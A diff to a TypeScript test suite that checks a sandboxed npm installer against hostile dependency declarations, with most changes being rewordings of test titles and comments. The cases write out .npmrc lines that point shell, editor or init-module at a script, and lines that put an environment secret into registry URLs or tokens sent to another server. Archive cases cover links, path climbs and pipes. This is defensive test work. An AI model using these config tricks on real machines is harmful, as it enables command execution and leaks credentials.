@@ -9,9 +9,9 @@ import { ensureDependencies } from "../src/package/dependencies/dependencies.ts"
 import { npmProgram } from "../src/package/dependencies/npm-program.ts";
 import { findBoundary, type Boundary } from "../src/sandbox/boundary.ts";
 import { startHostileRegistry } from "./hostile-registry.ts";
-import type { Registry } from "./fake-registry.ts";
+import type { FakeRegistry } from "./fake-registry.ts";
 
-/** What an app says of its dependencies runs nothing on the host, writes nothing outside its node_modules, and sends nothing anywhere. */
+/** Dependency declarations of an app run no command on the host, write nothing outside its node_modules, and send nothing to other servers. */
 
 const SECRET_NAME = "PARLEY_TEST_CANARY";
 const secret = `canary-${randomBytes(12).toString("hex")}`;
@@ -19,21 +19,21 @@ const before = process.env[SECRET_NAME];
 
 const base = await realpath(await mkdtemp(join(tmpdir(), "parley-npm-boundary-")));
 const outside = join(base, "outside");
-/** Is there once a command of the app's has run. */
+/** Exists if a command of the app has run. */
 const marker = join(outside, "marker");
 const program = join(outside, "evil.sh");
 
 let boundary: Boundary;
-let registry: Registry;
-/** Another server than the registry. */
-let elsewhere: Registry;
+let registry: FakeRegistry;
+/** A server other than the registry. */
+let elsewhere: FakeRegistry;
 beforeAll(async () => {
   process.env[SECRET_NAME] = secret;
   boundary = await findBoundary();
   await mkdir(outside);
   await writeFile(program, `#!/bin/sh\ntouch ${marker}\nexit 1\n`);
   await chmod(program, 0o755);
-  // Whoever runs it may leave the mark.
+  // Any user can create the marker.
   for (const path of [base, outside]) await chmod(path, 0o777);
   [registry, elsewhere] = await startHostileRegistry({ base, outside, marker });
 }, 60_000);
@@ -53,7 +53,7 @@ async function write(dependencies: Record<string, string>, npmrc: string): Promi
   return folder;
 }
 
-/** All that lies below a folder, links and special files with their kind. */
+/** Lists everything below a folder, links and special files with their kind. */
 async function treeOf(folder: string): Promise<string[]> {
   const entries = await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => []);
   return entries
@@ -70,7 +70,7 @@ interface Installed {
   readonly lines: string[];
 }
 
-/** Installs as a host does before it loads an app, and looks at what must not have happened. */
+/** Installs dependencies as a host does before it loads an app, and checks the marker, the outside folder and the other server. */
 async function install(folder: string): Promise<Installed> {
   const lines: string[] = [];
   const untouched = await treeOf(outside);
@@ -98,21 +98,24 @@ describe("a line of .npmrc", () => {
     ["another shell", () => `shell=${program}`],
     ["an editor", () => `editor=${program}`],
     ["a browser", () => `browser=${program}`],
-    ["a module at the beginning", () => `init-module=${program}`],
+    ["a preloaded module", () => `init-module=${program}`],
     ["another prefix", () => `prefix=${outside}`],
     ["a global installation", () => "global=true\nlocation=global"],
-    ["a cache elsewhere", () => `cache=${outside}/cache`],
-    ["logs elsewhere", () => `logs-dir=${outside}/logs`],
-    ["another configuration", () => `userconfig=${outside}/npmrc`],
+    ["another cache folder", () => `cache=${outside}/cache`],
+    ["another log folder", () => `logs-dir=${outside}/logs`],
+    ["another configuration file", () => `userconfig=${outside}/npmrc`],
     ["a proxy", () => `proxy=${elsewhere.origin}/\nhttps-proxy=${elsewhere.origin}/`],
-    ["the environment as the registry", () => `registry=${elsewhere.origin}/\${${SECRET_NAME}}/`],
-    ["the environment as a quoted registry", () => `registry = "${elsewhere.origin}/\${${SECRET_NAME}}/"`],
-    ["the environment as a scope's registry", () => `@scope:registry=${elsewhere.origin}/\${${SECRET_NAME}}/`],
-    ["the environment as a user of the registry", () => `registry=http://\${${SECRET_NAME}}@127.0.0.1:9/`],
-    ["the environment as a token", () => `//${registry.origin.slice(7)}/:_authToken=\${${SECRET_NAME}}`],
-    ["the environment as a user's name", () => `//${registry.origin.slice(7)}/:username=\${${SECRET_NAME}}`],
-    ["the environment as an agent", () => `user-agent=\${${SECRET_NAME}}`],
-    ["a token of a registry that is not named", () => `//${elsewhere.origin.slice(7)}/:_authToken=abc`],
+    ["an environment variable as the registry", () => `registry=${elsewhere.origin}/\${${SECRET_NAME}}/`],
+    ["a quoted environment variable as the registry", () => `registry = "${elsewhere.origin}/\${${SECRET_NAME}}/"`],
+    ["an environment variable as a scope's registry", () => `@scope:registry=${elsewhere.origin}/\${${SECRET_NAME}}/`],
+    [
+      "an environment variable as a user in the registry's URL",
+      () => `registry=http://\${${SECRET_NAME}}@127.0.0.1:9/`,
+    ],
+    ["an environment variable as a token", () => `//${registry.origin.slice(7)}/:_authToken=\${${SECRET_NAME}}`],
+    ["an environment variable as a user name", () => `//${registry.origin.slice(7)}/:username=\${${SECRET_NAME}}`],
+    ["an environment variable as a user agent", () => `user-agent=\${${SECRET_NAME}}`],
+    ["a token of an unnamed registry", () => `//${elsewhere.origin.slice(7)}/:_authToken=abc`],
     ["a section", () => "[registry]\nscript-shell=x"],
     ["a list", () => `omit[]=\${${SECRET_NAME}}`],
   ])("with %s is ignored with a warning that names it", async (_title, lines) => {
@@ -126,13 +129,13 @@ describe("a line of .npmrc", () => {
     expect((await packagesIn(folder)).sort()).toEqual(["@scope", "sound"]);
   });
 
-  test("that changes nothing of what is installed is left out in silence", async () => {
+  test("without effect on the installation is dropped without a warning", async () => {
     const folder = await write({ scripts: "1.0.0" }, `ignore-scripts=false\nfund=false\n${registry.npmrc}`);
     expect((await install(folder)).findings).toEqual([]);
     expect(await packagesIn(folder)).toEqual(["scripts"]);
   });
 
-  test("with a literal registry, a scope's registry and their tokens is read", async () => {
+  test("with a literal registry, a scope's registry and their tokens is used", async () => {
     const token = `${registry.origin.slice(5)}/:_authToken=literal-token`;
     const folder = await write(
       { "@scope/sound": "1.0.0" },
@@ -161,7 +164,7 @@ describe("a dependency of the manifest", () => {
     { ".bin": "1.0.0" },
     { "--prefix=/": "1.0.0" },
     { "sound\n": "1.0.0" },
-  ])("that is no package at an exact version is not asked for: %j", async (dependencies) => {
+  ])("that is no package at an exact version is not requested: %j", async (dependencies) => {
     const asked = registry.requests.length;
     const folder = await write(dependencies, registry.npmrc);
     expect((await install(folder)).lines).toEqual([]);
@@ -170,15 +173,15 @@ describe("a dependency of the manifest", () => {
   });
 });
 
-describe("a package that needs", () => {
+describe("a package that depends on", () => {
   test.each([
     ["a git repository", "needs-git"],
-    ["a git repository by ssh", "needs-ssh"],
-    ["a repository of a hub", "needs-hub"],
+    ["a git repository over ssh", "needs-ssh"],
+    ["a GitHub repository", "needs-hub"],
     ["a folder", "needs-folder"],
-    ["a folder by a climb", "needs-climb"],
+    ["a folder by a parent path", "needs-climb"],
     ["a link", "needs-link"],
-    ["an archive at another address", "needs-archive"],
+    ["an archive at another URL", "needs-archive"],
     ["an archive of this machine", "needs-archive-file"],
     ["a package under another name", "needs-alias"],
   ])("%s is not installed", async (_title, name) => {
@@ -193,11 +196,11 @@ describe("an archive with", () => {
   test.each([
     ["a link", "archive-link"],
     ["a link to a folder and a file behind it", "archive-folder-link"],
-    ["a hard link out of it", "archive-hard-link"],
-    ["a file that climbs", "archive-climb"],
-    ["a file at an absolute path", "archive-absolute"],
-    ["a pipe", "archive-pipe"],
-  ])("%s puts plain files into node_modules, or nothing", async (_title, name) => {
+    ["a hard link to a file outside", "archive-hard-link"],
+    ["a file with a parent path", "archive-climb"],
+    ["a file with an absolute path", "archive-absolute"],
+    ["a named pipe", "archive-pipe"],
+  ])("%s extracts plain files into node_modules, or nothing", async (_title, name) => {
     const folder = await write({ [name]: "1.0.0" }, registry.npmrc);
     await install(folder);
     const paths = await treeOf(join(folder, "node_modules"));
@@ -208,10 +211,10 @@ describe("an archive with", () => {
 describe("a package with", () => {
   test.each([
     ["scripts for each step of an installation", "scripts"],
-    ["a description of native code", "gyp"],
+    ["a native build file", "gyp"],
     ["a command whose name is a path", "bin-path"],
-    ["a command that lies outside", "bin-target"],
-    ["a folder of commands that lies outside", "bin-folder"],
+    ["a command outside the package", "bin-target"],
+    ["a folder of commands outside the package", "bin-folder"],
   ])("%s is installed as files", async (_title, name) => {
     const folder = await write({ [name]: "1.0.0" }, registry.npmrc);
     expect((await install(folder)).findings).toEqual([]);
@@ -232,14 +235,11 @@ describe("a link in the app's folder", () => {
     return { folder, codes: findings.map(({ code }) => code) };
   };
 
-  test.each(["node_modules", "node_modules/@scope"])(
-    "in the place of %s is refused and not written through",
-    async (path) => {
-      expect((await linked(path)).codes).toEqual(["dependency-install"]);
-    },
-  );
+  test.each(["node_modules", "node_modules/@scope"])("in place of %s is rejected and not followed", async (path) => {
+    expect((await linked(path)).codes).toEqual(["dependency-install"]);
+  });
 
-  test("in the place of a package is replaced", async () => {
+  test("in place of a package is replaced", async () => {
     const { folder, codes } = await linked("node_modules/sound");
     expect(codes).toEqual([]);
     expect((await lstat(join(folder, "node_modules", "sound"))).isSymbolicLink()).toBe(false);
@@ -247,7 +247,7 @@ describe("a link in the app's folder", () => {
 });
 
 describe("without the boundary, npm in the app's folder", () => {
-  /** As a program with the host's rights and environment. */
+  /** Runs npm with the host's rights and environment. */
   const npm = async (folder: string, ...packages: string[]) => {
     await writeFile(join(folder, "package.json"), "{}");
     const own = [`--cache=${join(folder, "cache")}`, "--no-audit", "--no-fund", "--fetch-retries=0"];
@@ -268,7 +268,7 @@ describe("without the boundary, npm in the app's folder", () => {
     expect(await wasRun()).toBe(true);
   });
 
-  test("sends what the environment holds", async () => {
+  test("sends values of the environment", async () => {
     await npm(await write({}, `registry=${elsewhere.origin}/\${${SECRET_NAME}}/\n`), "sound@1.0.0");
     expect(elsewhere.requests.join("\n")).toContain(secret);
     elsewhere.requests.length = 0;
